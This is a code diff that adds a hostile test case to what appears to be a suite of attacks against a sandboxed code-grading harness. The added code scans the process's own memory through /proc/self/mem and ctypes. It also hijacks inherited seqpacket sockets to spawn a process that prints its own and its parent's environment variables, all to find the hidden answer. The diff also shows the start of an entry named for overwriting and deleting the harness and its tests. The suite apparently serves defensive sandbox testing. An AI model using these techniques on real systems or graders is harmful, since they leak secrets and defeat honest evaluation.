@@ -201,6 +201,59 @@ ATTACKS: dict[str, str] = {
         def f(*args):
             return _answer()
     """,
+    "factory_sockets_and_ctypes_memory_scan": """
+        import ctypes, json, socket
+        def _mem():
+            budget = 256 << 20
+            with open("/proc/self/mem", "rb", 0) as mem:
+                for line in open("/proc/self/maps").read().splitlines():
+                    fields = line.split()
+                    lo, hi = (int(x, 16) for x in fields[0].split("-"))
+                    if "r" not in fields[1] or hi - lo > budget or "[v" in line:
+                        continue
+                    budget -= hi - lo
+                    try:
+                        mem.seek(lo)
+                        _scan_text(mem.read(hi - lo).decode("latin-1"))
+                    except (OSError, ValueError, OverflowError):
+                        pass
+                    if len(fields) < 6 or fields[5] == "[heap]":
+                        _scan_text(ctypes.string_at(lo, hi - lo).decode("latin-1"))
+        def _factories():
+            # any seqpacket socket we hold might be a factory connection: ask
+            # it for a process and have that one scan itself and its parents
+            for fd in range(256):
+                try:
+                    sock = socket.socket(fileno=os.dup(fd))
+                except OSError:
+                    continue
+                try:
+                    if sock.type != socket.SOCK_SEQPACKET:
+                        continue
+                    sock.settimeout(1.0)
+                    r, w = os.pipe()
+                    out_r, out_w = os.pipe()
+                    req = {"op": "spawn", "seed": "0" * 64, "code": "source"}
+                    socket.send_fds(sock, [json.dumps(req).encode()], [r, out_w, out_w])
+                    os.close(r)
+                    os.close(out_w)
+                    sock.recv(4096)
+                    os.write(w, b"import os\nfor p in ('self', str(os.getppid())):\n"
+                                b"    try: print(open('/proc/%s/environ' % p).read())\n"
+                                b"    except OSError: pass\n")
+                    os.close(w)
+                    _scan_text(os.read(out_r, 1 << 20).decode("latin-1"))
+                except Exception:
+                    pass
+                finally:
+                    sock.close()
+        _mem()
+        _factories()
+        def f(*args):
+            _mem()
+            _factories()
+            return _answer()
+    """,
     "overwrite_and_delete_harness_and_tests": """
         import glob
         fake = '{"v":1,"kind":"calls","nonce":"0","source":"","entry":"f","tests":[]}'
